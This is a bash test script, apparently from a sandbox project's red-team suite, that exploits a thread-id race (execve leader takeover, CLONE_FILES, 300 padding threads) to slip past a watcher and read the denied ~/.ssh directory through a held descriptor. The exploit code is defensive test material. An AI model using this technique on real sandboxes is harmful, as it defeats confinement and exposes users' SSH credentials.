#!/bin/bash
# Escape class H1 (linux-bwrap), red team on held_below (watch.c): each
# task is looked at once, by its thread id, and a thread that calls execve
# takes the thread id of the process's leader (de_thread, fs/exec.c in the
# kernel). The command's process keeps a descriptor of the staged
# directory (0957's swap, allowWrite "~") only in the table of one thread,
# the last of 300 (unshare CLONE_FILES; the leader closes its own copy, and
# 300 /dev/null descriptors make each thread long to look at). The thread
# waits until ~/.ssh turns into the watcher's cover (stat is not judged),
# lets the leader be looked at, and calls execve: it is the leader now,
# under an id already looked at, and its own id is gone when the watcher
# gets to it. Nothing is found, the run goes on, and the new program
# enters the new ~/.ssh by the descriptor and sees the names the host puts
# there. Up to 8 runs (about one in two got through).
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1

cat > "$WORK/look.py" <<'PYEOF'
import os, sys
from below import look_below, wait_marker
p, d = sys.argv[1], int(sys.argv[2])
wait_marker(p)
res = open(p + "/res", "a")
os.fchdir(d)
look_below(res, os.path.join(os.environ["HOME"], ".ssh"))
res.write("done\n")
PYEOF
cat > "$WORK/probe.py" <<'PYEOF'
import ctypes, os, sys, threading, time
p, stage, look = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
home = os.environ["HOME"]
ssh = os.path.join(home, ".ssh")
if os.fork() == 0:
    d = os.open(stage, os.O_RDONLY | os.O_DIRECTORY)
    os.set_inheritable(d, True)
    fill = [os.open("/dev/null", os.O_RDONLY | os.O_CLOEXEC) for _ in range(300)]
    stop = threading.Event()
    for _ in range(300):
        threading.Thread(target=stop.wait, daemon=True).start()
    own = threading.Event()
    def last():
        libc.unshare(0x400)  # CLONE_FILES: a table of its own, with d
        own.set()
        first = os.stat(ssh)
        while True:  # the watcher's cover on the new ~/.ssh
            try:
                st = os.stat(ssh)
                if (st.st_dev, st.st_ino) != (first.st_dev, first.st_ino) and \
                        st.st_dev != os.stat(home).st_dev:
                    break
            except OSError:
                pass
        time.sleep(0.002)
        os.execv(sys.executable, [sys.executable, look, p, str(d)])
    threading.Thread(target=last).start()
    own.wait()
    os.close(d)
    open(p + "/ready", "w").close()
    open(p + "/in", "w").close()
    stop.wait()
for _ in range(200):
    if os.path.exists(p + "/res") and "done" in open(p + "/res").read():
        break
    time.sleep(0.1)
PYEOF

S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}')
for try in $(seq 8); do
	below_stage
	below_run "$S" "its thread's descriptor of ~/.ssh.new" "$P" "$HOME/.ssh.new" "$WORK/look.py"
	diag "attempt $try: $(tr '\n' ' ' 2>/dev/null < "$P/res")"
	grep -qs stat-sees-name "$P/res" && break
done
diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-600)"
W="directory descriptor of a thread that takes the leader's id by execve, in the directory moved to the denied ~/.ssh"
below_stopped "$W ($try runs)"
below_checks "$W"
echo "1..$_tap_n"
